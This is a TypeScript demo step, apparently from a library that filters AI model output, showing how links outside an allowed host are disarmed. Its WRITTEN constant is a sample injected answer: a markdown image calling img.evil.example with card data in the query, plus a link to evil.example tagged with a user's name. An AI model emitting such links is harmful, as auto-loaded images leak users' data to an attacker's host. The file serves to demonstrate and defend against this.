import { scripted } from '../../../src/testing/scripted.ts';
import { marked } from '../marked.ts';
import type { Step } from '../show.ts';

const ALLOWED = 'docs.example.com';

/** What a model writes when a text it has read asks for it: a page loads the image unasked, and its address tells. */
const WRITTEN = [
  '![ok](https://img.evil.example/p.png?q=card-4111)',
  'The lid is back: [the offer][1].',
  `How to order it: [the guide](https://${ALLOWED}).`,
  '',
  '[1]: https://evil.example/offer?from=ana',
].join('\n');

/** Reads an answer whose links lead elsewhere, and shows what became of them. */
export const disarm: Step = async ({ stage, client, signal }) => {
  const { style } = stage;
  const dim = (text: string) => style('dim', text);
  await stage.title('Disarm the links of an answer', 'output.links');
  const provider = scripted([WRITTEN]);
  const { text, findings } = await client
    .withOptions({ provider, output: { allowedHosts: [ALLOWED] } })
    .chat('When is the lid back?', { signal });

  await stage.lines([dim('What the model wrote:')]);
  await stage.text(marked(WRITTEN, findings, (found) => style('red', found)));
  await stage.lines(['', dim(`What the reader gets, where ${ALLOWED} is allowed:`)]);
  await stage.text(
    text
      .replace(/hxxps?:/g, (scheme) => style('yellow', scheme))
      .replaceAll(`https://${ALLOWED}`, (link) => style('green', link)),
  );
};
